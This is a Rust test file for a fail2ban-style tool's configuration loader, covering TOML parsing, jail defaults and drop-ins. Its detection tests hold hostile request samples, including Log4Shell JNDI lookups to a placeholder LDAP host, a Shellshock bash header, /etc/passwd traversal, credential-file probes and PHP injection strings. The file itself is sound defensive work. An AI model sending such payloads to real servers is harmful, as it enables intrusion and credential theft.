//! What the configuration as a whole promises.

use std::fs;

use super::*;

fn loaded(text: &str) -> Loaded {
    from_text(Path::new("my.toml"), text)
}

fn told(text: &str) -> Vec<String> {
    loaded(text)
        .problems
        .iter()
        .map(Problem::to_string)
        .collect()
}

fn jail<'a>(config: &'a Config, name: &str) -> &'a Jail {
    config.jails.iter().find(|jail| jail.name == name).unwrap()
}

/// A jail as its text shows it, but for where it is written.
fn shown(jail: &Jail) -> String {
    format!(
        "{:?}",
        Jail {
            written: String::new(),
            ..jail.clone()
        }
    )
}

/// A folder of its own, removed at the end.
struct Dir(PathBuf);

impl Dir {
    fn new(name: &str) -> Self {
        let dir =
            std::env::temp_dir().join(format!("f2b-pipe-config-{}-{name}", std::process::id()));
        fs::create_dir_all(dir.join("conf.d")).unwrap();
        // This host's fail2ban is none of a test's business.
        fs::write(dir.join("conf.d/00-host.toml"), "[fail2ban]\nconfig = ''\n").unwrap();
        Self(dir)
    }

    fn write(&self, name: &str, text: &str) -> PathBuf {
        let path = self.0.join(name);
        fs::write(&path, text).unwrap();
        path
    }
}

impl Drop for Dir {
    fn drop(&mut self) {
        let _ = fs::remove_dir_all(&self.0);
    }
}

#[test]
fn the_shipped_file_gives_no_problem_and_the_jails_it_names() {
    let loaded = loaded(SHIPPED);
    assert_eq!(loaded.problems, []);
    let jails: Vec<_> = loaded
        .config
        .jails
        .iter()
        .map(|j| (j.name.as_str(), j.mode, j.maxretry))
        .collect();
    assert_eq!(
        jails,
        [
            ("apache-dos", Mode::Ban, 100),
            ("apache-auth", Mode::Ban, 10),
            ("apache-scan", Mode::Ban, 15),
            ("apache-exploit-agent", Mode::Ban, 1),
            ("apache-exploit-path", Mode::Ban, 3),
            ("apache-slow", Mode::Observe, 100),
            ("apache-badrequest", Mode::Observe, 20),
            ("apache-flood", Mode::Observe, 2000),
        ]
    );
}

#[test]
fn the_examples_in_the_comments_of_the_shipped_file_can_be_used() {
    let examples: String = SHIPPED
        .lines()
        .filter_map(|line| line.strip_prefix("#   "))
        .skip_while(|line| !line.starts_with("[jail."))
        .map(|line| format!("{line}\n"))
        .collect();
    // Beside the filters that are installed with it.
    let loaded = from_text(Path::new("conf/f2b-pipe.toml"), &examples);
    assert_eq!(loaded.problems, []);
    assert_eq!(loaded.config.jails.len(), Config::default().jails.len() + 5);
}

#[test]
fn a_copy_of_the_shipped_file_means_the_same_as_no_file() {
    let dir = Dir::new("copy");
    let none = load(&dir.0.join("none.toml"));
    let copy = load(&dir.write("f2b-pipe.toml", SHIPPED));
    assert_eq!(copy.problems, []);
    let [missing] = &none.problems[..] else {
        panic!("{:?}", none.problems)
    };
    assert_eq!(missing.severity, Severity::Warning, "{missing}");
    assert_eq!(none.config.path, None);
    assert!(copy.config.path.is_some());
    let jails = |config: &Config| config.jails.iter().map(shown).collect::<Vec<_>>();
    assert_eq!(jails(&none.config), jails(&copy.config));
    assert_eq!(jail(&none.config, "apache-dos").written, "shipped");
    let written = &jail(&copy.config, "apache-dos").written;
    let (file, line) = written.rsplit_once(':').unwrap();
    assert!(file.ends_with("f2b-pipe.toml"));
    let line: usize = line.parse().unwrap();
    assert_eq!(SHIPPED.lines().nth(line - 1), Some("[jail.apache-dos]"));
}

#[test]
fn a_key_of_mine_replaces_that_key_of_a_shipped_jail_and_no_other() {
    let loaded = loaded("[jail.apache-dos]\nmaxretry = 7\n[jail.apache-scan]\nenabled = false\n");
    assert_eq!(loaded.problems, []);
    let dos = jail(&loaded.config, "apache-dos");
    assert_eq!((dos.maxretry, dos.findtime), (7, Duration::from_secs(1)));
    assert_eq!(dos.rule.not.is_static, Some(true));
    assert!(loaded.config.jails.iter().all(|j| j.name != "apache-scan"));
}

#[test]
fn defaults_of_mine_reach_every_jail_that_does_not_say_otherwise() {
    let config = loaded("[defaults]\nbantime = -1\nignoreip = '192.0.2.0/24, monitor.example.org'\nport = [8080, 'ssh']").config;
    assert_eq!(jail(&config, "apache-dos").bantime, BanFor::Forever);
    assert_eq!(
        jail(&config, "apache-exploit-agent").bantime.to_string(),
        "86400s"
    );
    assert_eq!(config.manual.bantime, BanFor::Forever);
    let ports = Ports::These(vec![
        PortRange::one("8080", 8080),
        PortRange::one("ssh", 22),
    ]);
    assert_eq!(
        (&jail(&config, "apache-dos").ports, &config.manual.ports),
        (&ports, &ports)
    );
    assert_eq!(config.manual.ignoreip, ["192.0.2.0/24".parse().unwrap()]);
    assert_eq!(config.manual.ignoreip_names, ["monitor.example.org"]);
}

#[test]
fn a_jail_may_reject_while_the_others_drop_and_close_other_protocols() {
    let text = "[defaults]\nprotocol = 'tcp,udp'\n[jail.a]\nblocktype = 'reject'\nport = '53, 6000:6010'\n\
                [jail.b]\nprotocol = 'all'\n";
    let config = loaded(text).config;
    let (a, b) = (jail(&config, "a"), jail(&config, "b"));
    assert_eq!(
        (a.blocktype, b.blocktype),
        (Blocktype::Reject, Blocktype::Drop)
    );
    assert_eq!(a.protocols, [Protocol::Tcp, Protocol::Udp]);
    assert_eq!(b.protocols, [Protocol::All]);
    assert_eq!(a.ports.written(), ["53", "6000:6010"]);
    assert!(a.ports.closes(6001) && !a.ports.closes(6011));
    assert!(a.closes_tcp() && b.closes_tcp());
    let config =
        loaded("[firewall]\nblocktype = 'reject'\n[jail.a]\n[jail.b]\nblocktype = 'drop'").config;
    assert_eq!(config.manual.blocktype, Blocktype::Reject);
    assert_eq!(jail(&config, "a").blocktype, Blocktype::Reject);
    assert_eq!(jail(&config, "b").blocktype, Blocktype::Drop);
}

#[test]
fn any_name_gives_one_that_sets_can_have() {
    for name in ["sshd", "apache-dos", "a", "12345678901234567890"] {
        assert_eq!(sets_of(name), name);
    }
    // Fixed: the bans of an earlier version are found under it.
    assert_eq!(
        sets_of("nextcloud-and-friends-long"),
        "nextcloud-a-a7e21ec2"
    );
    let odd = [
        "",
        "jail",
        "Ä",
        "-x",
        "my jail",
        "my  jail",
        "123456789012345678901",
        "123456789012345678902",
        "123456789012~",
    ];
    let sets: std::collections::BTreeSet<String> = odd.iter().map(|name| sets_of(name)).collect();
    assert_eq!(sets.len(), odd.len(), "{sets:?}");
    assert!(sets.iter().all(|name| names_sets(name)), "{sets:?}");
}

#[test]
fn drop_ins_lie_over_the_file_in_the_order_of_their_names() {
    let dir = Dir::new("drop-ins");
    let file = dir.write(
        "f2b-pipe.toml",
        "[jail.apache-dos]\nmaxretry = 1\nfindtime = '5s'\n",
    );
    dir.write("conf.d/20-b.toml", "[jail.apache-dos]\nmaxretry = 3\n");
    dir.write(
        "conf.d/10-a.toml",
        "[jail.apache-dos]\nmaxretry = 2\nbantime = '1h'\n",
    );
    dir.write("conf.d/30-c.toml.bak", "[jail.apache-dos]\nmaxretry = 4\n");
    let loaded = load(&file);
    assert_eq!(loaded.problems, []);
    let dos = jail(&loaded.config, "apache-dos");
    assert_eq!((dos.maxretry, dos.findtime), (3, Duration::from_secs(5)));
    assert_eq!(dos.bantime.to_string(), "3600s");
    assert!(dos.written.ends_with("20-b.toml:1"), "{}", dos.written);
}

#[test]
fn a_jail_with_a_mistake_is_left_out_and_the_others_run() {
    let loaded = loaded(
        "[jail.a]\nstatus = 404\nmaxretry = '5'\n[jail.b]\nstatus = 403\n[jail.apache-dos]\nmaxretry = 0\n",
    );
    let names: Vec<_> = loaded
        .config
        .jails
        .iter()
        .map(|j| j.name.as_str())
        .collect();
    assert!(
        names.contains(&"b") && names.contains(&"apache-scan"),
        "{names:?}"
    );
    assert!(
        !names.contains(&"a") && !names.contains(&"apache-dos"),
        "{names:?}"
    );
    assert_eq!(loaded.problems.len(), 2);
}

#[test]
fn what_is_not_toml_at_all_leaves_the_shipped_jails_running() {
    let shipped = Config::default().jails.len();
    for text in [
        "this is not toml",
        "<html>\n<body>\n</html>",
        "\u{1}\u{2}",
        "[[[[",
        "= 5",
        "{\n  \"jail\": {}\n}",
    ] {
        let loaded = loaded(text);
        assert_eq!(loaded.config.jails.len(), shipped, "{text:?}");
        assert_eq!(loaded.problems.len(), 1, "{text:?} {:?}", loaded.problems);
    }
    let dir = Dir::new("binary");
    let file = dir.0.join("f2b-pipe.toml");
    fs::write(&file, b"a = 1\nb = '\xff'\n").unwrap();
    let loaded = load(&file);
    assert_eq!(loaded.config.jails.len(), shipped);
    assert_eq!(loaded.problems.first().and_then(|p| p.line), Some(2));
    assert_eq!(load(&dir.0.join("conf.d")).problems.len(), 1);
}

#[test]
fn a_mistake_in_the_toml_costs_its_own_jail_and_not_what_follows() {
    for broken in [
        "maxretry = = 5",
        "maxretry : 5",
        "maxretry 5",
        "maxretry =",
        "path = \"\\.php\"",
        "path = 'abc",
        "bantime = 10m",
        "status = [404",
        "status = [404,\n  405\nmaxretry = 3",
        "not = { static = true",
        "not = { path = ['a' }",
        "maxretry = 1\nmaxretry = 2",
    ] {
        let text = format!(
            "[defaults]\nbantime = '1h'\n[jail.a]\n{broken}\nfindtime = '1m'\n[jail.b]\nstatus = 403\n"
        );
        let loaded = loaded(&text);
        let names: Vec<_> = loaded
            .config
            .jails
            .iter()
            .map(|j| j.name.as_str())
            .collect();
        assert!(!names.contains(&"a"), "{text}\n{names:?}");
        assert!(names.contains(&"b"), "{text}\n{names:?}");
        assert_eq!(
            jail(&loaded.config, "b").bantime.to_string(),
            "3600s",
            "{text}\n{:#?}",
            loaded.problems
        );
        assert_eq!(loaded.problems.len(), 1, "{text}\n{:#?}", loaded.problems);
        let line = loaded.problems[0].line.unwrap();
        assert!((4..=5).contains(&line), "{text}\n{line}");
        assert!(
            loaded.problems[0].key.starts_with("jail.a"),
            "{:?}",
            loaded.problems
        );
    }
}

#[test]
fn whatever_is_written_something_runs_and_the_mistake_is_told() {
    let jails = Config::default().jails.len();
    for text in [
        "[jail.a]\npath = \"\"\"abc\nfindtime = 1\n\n",
        "[jail.a]\npath = '''abc\n\n# end\n",
        "[jail.a]\nstatus = [\n404,\n# more\n\n",
        "[jail.a]\nnot = {\n\n",
        "[jail.a]\nstatus = [404,\n  'x' 'y'\n  405,\n]\nmaxretry = 3\n",
        "status = 1 ]",
        "[jail.a]]\nstatus = 1",
        "[]\n",
        "a.b.c = {}\na.b.c.d = 1\n",
        "[jail.a]\n\"",
    ] {
        let loaded = loaded(text);
        assert_eq!(
            loaded.config.jails.len(),
            jails,
            "{text}\n{:#?}",
            loaded.problems
        );
        assert!(
            (1..=2).contains(&loaded.problems.len()),
            "{text}\n{:#?}",
            loaded.problems
        );
        assert!(
            loaded.problems.iter().all(|p| p.line.is_some()),
            "{text}\n{:#?}",
            loaded.problems
        );
    }
}

#[test]
fn a_header_without_its_end_takes_its_keys_along() {
    let loaded = loaded("[jail.a]\nstatus = 404\n[jail.b\nstatus = 500\n[jail.c]\nstatus = 403\n");
    assert_eq!(jail(&loaded.config, "a").rule.all.status, [(404, 404)]);
    assert_eq!(jail(&loaded.config, "c").rule.all.status, [(403, 403)]);
    assert!(loaded.config.jails.iter().all(|j| j.name != "b"));
    assert_eq!(loaded.problems.len(), 1, "{:?}", loaded.problems);
}

#[test]
fn a_way_of_counting_that_is_for_other_jails_is_a_warning() {
    let loaded = loaded("[jail.a]\nstatus = 404\ncount = 'fail2ban'\n");
    assert!(
        loaded
            .problems
            .iter()
            .all(|p| p.severity == Severity::Warning),
        "{:#?}",
        loaded.problems
    );
    assert_eq!(loaded.problems.len(), 1, "{:#?}", loaded.problems);
    assert!(loaded.config.jails.iter().any(|j| j.name == "a"));
}

#[test]
fn fail2bans_log_is_a_whole_path_or_none() {
    let log = |text: &str| loaded(&format!("[fail2ban]\nlogfile = '{text}'\n"));
    let path = "/var/log/fail2ban.log";
    assert_eq!(log(path).config.fail2ban_log, Some(path.into()));
    assert_eq!(log("").config.fail2ban_log, None);
    assert_eq!(log("fail2ban.log").errors().count(), 1);
}

#[test]
fn fail2bans_socket_is_the_hosts_unless_it_is_another() {
    let at = |text: &str, dir: &str| {
        let config = loaded(&format!("[fail2ban]\nsocket = '{text}'\n")).config;
        let paths = RuntimePaths::new(Path::new(dir), Path::new("/etc/f2b-pipe/f2b-pipe.toml"));
        paths.fail2ban_socket(&config)
    };
    assert_eq!(
        at(FAIL2BAN_SOCKET, "/run/f2b-pipe"),
        Some(FAIL2BAN_SOCKET.into())
    );
    assert_eq!(at(FAIL2BAN_SOCKET, "/tmp/run"), None);
    assert_eq!(at("/tmp/f.sock", "/tmp/run"), Some("/tmp/f.sock".into()));
    assert_eq!(at("", "/run/f2b-pipe"), None);
    assert_eq!(
        Config::default().fail2ban_socket,
        Some(FAIL2BAN_SOCKET.into())
    );
}

#[test]
fn conditions_are_read_in_every_form() {
    let config = loaded(
        "[jail.a]\nstatus = [401, '4xx', '500-599']\nbytes = [0, '>=1000000', '<100', '100-200']\n\
         duration = ['>5s', '<10ms', '100ms-2s']\nstatic = false\nmethod = 'POST'\n\
         any = { query = 'a', path = ['b', 'c'] }\nnot.agent = '\\xff'\ndistinct = 'any'\nweight = 3\n",
    )
    .config;
    let rule = &jail(&config, "a").rule;
    assert_eq!(rule.all.status, [(401, 401), (400, 499), (500, 599)]);
    assert_eq!(
        rule.all.bytes,
        [(0, 0), (1_000_000, u64::MAX), (0, 99), (100, 200)]
    );
    assert_eq!(
        rule.all.duration,
        [(5_000_001, u64::MAX), (0, 9_999), (100_000, 2_000_000)]
    );
    assert_eq!(rule.all.is_static, Some(false));
    let fields: Vec<_> = rule
        .any
        .text
        .iter()
        .map(|(field, list)| (*field, list.len()))
        .collect();
    assert_eq!(
        fields,
        [(Field::Query, 1), (Field::Path, 2)],
        "in the order of the file"
    );
    assert!(fits(&rule.not.text[0].1[0], b"\xff"));
    assert_eq!(
        (rule.distinct, rule.weight),
        (Some(Distinct::Any), Weight(3))
    );
    assert!(rule.all.text.len() == 1 && !rule.any.is_empty());
}

#[test]
fn every_mistake_is_told_with_its_line_and_what_to_write() {
    let mut wrong = String::new();
    for case in include_str!("mistakes.txt").split("\n==\n").skip(1) {
        let (text, expected) = case.split_once("--\n").unwrap();
        let said = told(text).join("\n");
        if said.trim_end() != expected.trim_end() {
            wrong.push_str(&format!("{text}--\n{said}\n\n"));
        }
    }
    assert!(wrong.is_empty(), "what is said now:\n{wrong}");
}

fn fits(pattern: &str, text: &[u8]) -> bool {
    let regex = regex::bytes::RegexBuilder::new(pattern)
        .unicode(false)
        .build();
    regex.unwrap().is_match(text)
}

/// The first field of `conditions` in which an expression is found, as `distinct = "any"` has it.
fn found<'a>(conditions: &Conditions, fields: &[(Field, &'a str)]) -> Option<(Field, &'a str)> {
    conditions.text.iter().find_map(|(field, list)| {
        let (_, value) = fields.iter().find(|(f, _)| f == field)?;
        list.iter()
            .any(|pattern| fits(pattern, value.as_bytes()))
            .then_some((*field, *value))
    })
}

fn field_found<'a>(jail: &Jail, field: Field, value: &'a str) -> Option<(Field, &'a str)> {
    let part = if jail.rule.any.is_empty() {
        &jail.rule.all
    } else {
        &jail.rule.any
    };
    found(part, &[(field, value)])
}

#[test]
fn exploits_are_found_in_path_query_and_referer() {
    let config = Config::default();
    let exploit = jail(&config, "apache-exploit-path");
    for (field, value) in [
        (Field::Path, "/.env"),
        (Field::Path, "/api/.env.bak"),
        (Field::Path, "/.env_prod"),
        (Field::Path, "/.git/config"),
        (Field::Path, "/old/.svn/entries"),
        (Field::Path, "/.aws/credentials"),
        (Field::Path, "/.htpasswd"),
        (Field::Path, "/wp-config.php.bak"),
        (Field::Path, "/wp-config.php~"),
        (
            Field::Path,
            "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        ),
        (Field::Path, "/../../etc/passwd"),
        (Field::Path, "/cgi-bin/../../../../bin/sh"),
        (Field::Path, "/cgi-bin/.%2e/.%2e/bin/sh"),
        (Field::Path, "/%2e%2e/%2e%2e/x"),
        (Field::Path, "/..\\..\\windows\\win.ini"),
        (Field::Path, "/../../../../x"),
        (Field::Path, "/${jndi:ldap://203.0.113.9/a}"),
        (Field::Query, "x=${jNdI:ldap://203.0.113.9/a}"),
        (Field::Query, "x=${${lower:j}ndi:ldap://203.0.113.9/a}"),
        (Field::Query, "x=${::-j}"),
        (Field::Query, "page=../../../etc/passwd"),
        (
            Field::Query,
            "-d allow_url_include=1 -d auto_prepend_file=php://input",
        ),
        (
            Field::Query,
            "file=php://filter/convert.base64-encode/resource=index",
        ),
        (Field::Query, "url=http://169.254.169.254/latest/meta-data/"),
        (
            Field::Query,
            "s=/index/\\think\\app/invokefunction&function=call_user_func_array",
        ),
        (Field::Referer, "${jndi:ldap://203.0.113.9/a}"),
        (Field::Referer, "() { :;}; /bin/bash -c id"),
    ] {
        assert_eq!(field_found(exploit, field, value), Some((field, value)));
    }
    let agent = jail(&config, "apache-exploit-agent");
    for value in [
        "() { :;}; /bin/bash -c id",
        "(){ x",
        "${jndi:dns://203.0.113.9/a}",
        "${${env:NaN:-j}ndi}",
    ] {
        assert!(field_found(agent, Field::Agent, value).is_some(), "{value}");
    }
}

#[test]
fn what_honest_clients_ask_for_is_no_exploit() {
    let config = Config::default();
    let exploit = jail(&config, "apache-exploit-path");
    for (field, value) in [
        (Field::Path, "/project.git/info/refs"),
        (Field::Path, "/.github/workflows/ci.yml"),
        (Field::Path, "/.gitignore"),
        (Field::Path, "/environment"),
        (Field::Path, "/.environment"),
        (Field::Path, "/wp-login.php"),
        (Field::Path, "/wp-config-sample.php"),
        (Field::Path, "/../images/logo.png"),
        (Field::Path, "/docs/etc/passwd"),
        (Field::Path, "/a..b/c...d/"),
        (Field::Path, "/.well-known/caldav"),
        (Field::Query, "q=where is /etc/passwd"),
        (Field::Query, "q=union select password from users"),
        (Field::Query, "code=function() { return 1 }"),
        (Field::Query, "t=${name}&u=${x:y}"),
        (Field::Query, "q=php allow_url_include"),
        (Field::Query, "next=https://example.org/../x"),
        (
            Field::Referer,
            "https://example.org/search?q=%24%7Bjndi%3Aldap",
        ),
        (Field::Referer, "https://example.org/a() {"),
    ] {
        assert_eq!(field_found(exploit, field, value), None);
    }
    let dav = |path| found(&exploit.rule.not, &[(Field::Path, path)]).is_some();
    assert!(dav("/remote.php/dav/files/ann/project/.git/config"));
    assert!(dav("/webdav/.env") && dav("/caldav/ann/"));
    assert!(!dav("/.git/config") && !dav("/x/dav/.env"));
    let agent = jail(&config, "apache-exploit-agent");
    for value in [
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)",
        "-",
        "curl/8.5.0",
        "App/1.0 () {x}",
    ] {
        assert!(field_found(agent, Field::Agent, value).is_none(), "{value}");
    }
}

#[test]
fn a_page_elsewhere_gives_its_readers_two_different_finds_at_most() {
    let config = Config::default();
    let any = &jail(&config, "apache-exploit-path").rule.any;
    let referer = "https://elsewhere.example/?${jndi:ldap://203.0.113.9/a}";
    let asked = ["/.env", "/", "/about", "/news/today", "/.env", "/logo"];
    let mut finds: Vec<_> = asked
        .iter()
        .filter_map(|path| {
            found(
                any,
                &[
                    (Field::Path, path),
                    (Field::Query, ""),
                    (Field::Referer, referer),
                ],
            )
        })
        .collect();
    finds.sort();
    finds.dedup();
    assert_eq!(finds, [(Field::Path, "/.env"), (Field::Referer, referer)]);
}

#[test]
fn the_scan_jail_leaves_out_what_programs_ask_for_unasked_and_search_engines() {
    let config = Config::default();
    let not = &jail(&config, "apache-scan").rule.not;
    let spared = |field, value| found(not, &[(field, value)]).is_some();
    for path in [
        "/favicon.ico",
        "/shop/favicon-32x32.png",
        "/apple-touch-icon-120x120-precomposed.png",
        "/robots.txt",
        "/ads.txt",
        "/humans.txt",
        "/.well-known/traffic-advice",
        "/browserconfig.xml",
        "/sitemap_index.xml",
        "/sitemap.xml.gz",
        "/site.webmanifest",
        "/js/app.js.map",
        "/dav/._photo.jpg",
        "/dav/folder/.DS_Store",
        "/dav/Thumbs.db",
        "/live/segment-77.ts",
    ] {
        assert!(spared(Field::Path, path), "{path}");
    }
    for path in [
        "/missing-1",
        "/old/page.html",
        "/admin.php",
        "/backup.zip",
        "/x/robots.txt",
        "/phpinfo.php",
        "/dump.sql",
    ] {
        assert!(!spared(Field::Path, path), "{path}");
    }
    for agent in [
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36",
        "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
    ] {
        assert!(spared(Field::Agent, agent), "{agent}");
    }
    for agent in [
        "curl/8.5.0",
        "Mozilla/5.0 zgrab/0.x",
        "-",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
    ] {
        assert!(!spared(Field::Agent, agent), "{agent}");
    }
}

#[test]
fn a_damaged_file_does_not_steer_the_terminal() {
    let text = "[privileges]\ncapabilities = true\0\u{1b}[2J\n[jail.\"a\u{1b}[1m\"]\nmaxretry = \"\u{7}\"\n";
    let loaded = from_text(Path::new("f2b-pipe.toml"), text);
    assert!(!loaded.problems.is_empty());
    for problem in &loaded.problems {
        let told = problem.to_string();
        assert!(
            !told.contains(|c: char| c.is_control() && c != '\n'),
            "{told:?}"
        );
    }
}
